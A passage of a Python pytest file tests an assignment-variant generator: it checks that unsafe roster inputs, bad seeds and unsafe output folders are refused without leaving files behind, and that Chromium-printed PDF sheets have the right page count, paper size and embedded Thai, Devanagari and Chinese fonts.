    roster_path = roster_of(tmp_path, 2)
    before = snapshot(tmp_path)
    result = command(
        "variants", ["--roster", str(roster_path), "--seed", SEED, "--out", "o", *options]
    )
    expect_refusal(result, argument)
    assert reason in result[2], result[2]
    assert snapshot(tmp_path) == before


def _too_large(tmp: Path) -> Path:
    path = tmp / "huge.csv"
    with path.open("wb") as fh:
        fh.truncate(variants.MAX_ROSTER_BYTES + 1)  # sparse: no disk space used
    return path


def _fifo(tmp: Path) -> Path:
    os.mkfifo(tmp / "pipe.csv")
    return tmp / "pipe.csv"


def _folder(tmp: Path) -> Path:
    (tmp / "folder.csv").mkdir()
    return tmp / "folder.csv"


UNSAFE_INPUTS = {
    "too large": (_too_large, "over the limit"),
    "named pipe": (_fifo, "a named pipe, not a regular file"),
    "folder": (_folder, "a folder, not a regular file"),
    "device": (lambda tmp: Path("/dev/zero"), "a device, not a regular file"),
    "missing": (lambda tmp: tmp / "missing.csv", "No such file"),
}


@pytest.mark.parametrize("kind", sorted(UNSAFE_INPUTS))
def test_a_roster_that_is_not_a_small_regular_file_is_refused(
    kind: str, tmp_path: Path, command
) -> None:
    make, reason = UNSAFE_INPUTS[kind]
    roster = make(tmp_path)
    before = snapshot(tmp_path)
    result = command("variants", ["--roster", str(roster), "--seed", SEED, "--out", "out"])
    expect_refusal(result, "--roster")
    assert reason in result[2]
    assert snapshot(tmp_path) == before


BAD_SEEDS = {
    "empty": "",
    "space": "fall 2026",
    "non-ASCII": "hérbst",
    "too long": "9" * 65,
    "slash": "a/b",
}


@pytest.mark.parametrize("seed", BAD_SEEDS.values(), ids=BAD_SEEDS.keys())
def test_a_bad_seed_is_refused(seed: str, tmp_path: Path, command) -> None:
    roster = roster_of(tmp_path, 2)
    before = snapshot(tmp_path)
    expect_refusal(
        command("variants", ["--roster", str(roster), "--seed", seed, "--out", "o"]), "--seed"
    )
    assert snapshot(tmp_path) == before


def _nonempty(tmp: Path) -> Path:
    (tmp / "out").mkdir()
    (tmp / "out" / "old-sheet.md").write_text("an earlier roster's\n")
    return tmp / "out"


def _a_file(tmp: Path) -> Path:
    (tmp / "out").write_text("a file\n")
    return tmp / "out"


def _symlink(tmp: Path) -> Path:
    (tmp / "elsewhere").mkdir()
    (tmp / "out").symlink_to(tmp / "elsewhere")
    return tmp / "out"


UNSAFE_OUTS = {
    "not empty": (_nonempty, "is not empty"),
    "a file": (_a_file, "is not a folder"),
    "a symlink": (_symlink, "is a symlink"),
    "missing parent": (lambda tmp: tmp / "missing" / "out", "does not exist"),
}


@pytest.mark.parametrize("kind", sorted(UNSAFE_OUTS))
def test_an_unsafe_output_folder_is_refused(kind: str, tmp_path: Path, command) -> None:
    roster = roster_of(tmp_path, 2)
    make, reason = UNSAFE_OUTS[kind]
    out = make(tmp_path)
    before = snapshot(tmp_path)
    result = command(
        "variants", ["--roster", str(roster), "--seed", SEED, "--out", str(out), "--no-pdf"]
    )
    expect_refusal(result, "--out")
    assert reason in result[2]
    assert snapshot(tmp_path) == before


def test_a_full_disk_midway_writes_nothing(
    tmp_path: Path, command, monkeypatch: pytest.MonkeyPatch
) -> None:
    roster = roster_of(tmp_path, 3)
    before = snapshot(tmp_path)
    calls = []

    def fsync(fd: int) -> None:
        calls.append(fd)
        if len(calls) > 5:
            raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", fsync)
    result = command(
        "variants", ["--roster", str(roster), "--seed", SEED, "--out", "out", "--no-pdf"]
    )
    expect_refusal(result, "--out")
    assert "No space left" in result[2]
    assert snapshot(tmp_path) == before, "no output and no temporary folder may be left"


# Printing: few tests, each launching Chromium once.


@pytest.mark.slow
@pytest.mark.browser
def test_pdfs_print_every_script_on_two_pages_a_sheet_and_one_page_a_student(
    tmp_path: Path,
) -> None:
    require_chromium()
    from pypdf import PdfReader

    # A grid takes the same room for every n; a long course name and due date, on the
    # shorter paper.
    runs = _two_runs(
        tmp_path,
        SCRIPTS_ROSTER.encode(),
        "--paper",
        "letter",
        "--course",
        "Deep Learning for Perception and Language, Section 01",
        "--due",
        "Friday 9 October 2026, 23:59 Anywhere on Earth",
        timeout=300,
    )
    assert runs[0] == runs[1]
    rows = read_key(tmp_path / "one")
    for row, line in zip(rows, SCRIPTS_ROSTER.splitlines()[1:], strict=True):
        reader = PdfReader(io.BytesIO(runs[0][f"sheets/{row['file']}.pdf"]))
        assert len(reader.pages) == 2, row["student_id"]
        box = reader.pages[0].mediabox
        assert (round(float(box.width)), round(float(box.height))) == (612, 792)  # Letter
        text = " ".join(page.extract_text() for page in reader.pages)
        v = variant_of(row)
        for needle in (f"n = {v.n}", f"t = {v.t}", f"N = {v.N}", f"h = {v.h}", "(3 points)"):
            assert needle in text
        assert reader.metadata == {
            "/Title": f"Deep Learning for Perception and Language, Section 01: {sheets.TITLE}"
        }
        # Thai and Devanagari need their own Noto fonts, embedded when used.
        fonts = _font_names(reader)
        if "ใ" in line:
            assert any("NotoSansThai" in f for f in fonts), fonts
        if "श" in line:
            assert any("NotoSansDevanagari" in f for f in fonts), fonts
    book = PdfReader(io.BytesIO(runs[0]["key.pdf"]))
    assert len(book.pages) == len(rows)
    for page, row in zip(book.pages, rows, strict=True):
        assert f"{int(row['windowed_N']):,}" in page.extract_text()


def _font_names(reader) -> set[str]:
    names = set()
    for page in reader.pages:
        for font in page["/Resources"].get("/Font", {}).values():
            names.add(str(font.get_object().get("/BaseFont", "")))
    return names


@pytest.mark.slow
@pytest.mark.browser
def test_thai_and_chinese_print_as_glyphs_not_boxes(tmp_path: Path) -> None:
    """Each character printed alone through the sheets' own page and CSS, rendered to
    pixels: a character no font draws prints as the same empty box as any other; a drawn
    one does not."""
    chromium = Path(require_chromium())
    characters = ["\ue000", "\ue001", "山", "田", "ส", "ม", "ช"]
    pages = [(ch, sheets.sheet_html(f"# {ch}", {}, "glyphs")) for ch in characters]
    printed: dict[str, bytes] = {}
    sheets.print_pdfs(pages, chromium, "a4", "glyphs", printed.__setitem__)
    ink = {}
    for ch, pdf in printed.items():
        (tmp_path / "p.pdf").write_bytes(pdf)
        subprocess.run(
            [
                "pdftoppm",
                "-r",
                "72",
                "-gray",
                "-singlefile",
                "-f",
                "1",
                "-l",
                "1",
                "-x",
                "0",
                "-y",
                "0",
                "-W",
                "200",
                "-H",
                "120",
                str(tmp_path / "p.pdf"),
                str(tmp_path / "p"),
            ],
            check=True,
        )
        pixels = _pgm(tmp_path / "p.pgm") < 128
        rows, cols = np.nonzero(pixels)
        ink[ch] = pixels[rows.min() : rows.max() + 1, cols.min() : cols.max() + 1]
    tofu = ink["\ue000"]
    assert np.array_equal(tofu, ink["\ue001"]), "the box test cannot tell boxes apart"
    for ch in characters[2:]:
        assert not np.array_equal(ink[ch], tofu), f"{ch} printed as a box"


def _pgm(path: Path) -> np.ndarray:
    data = path.read_bytes()
    magic, width, height, top, rest = data.split(maxsplit=4)
    assert magic == b"P5" and top == b"255"
    return np.frombuffer(rest[: int(width) * int(height)], dtype=np.uint8).reshape(
        int(height), int(width)
    )
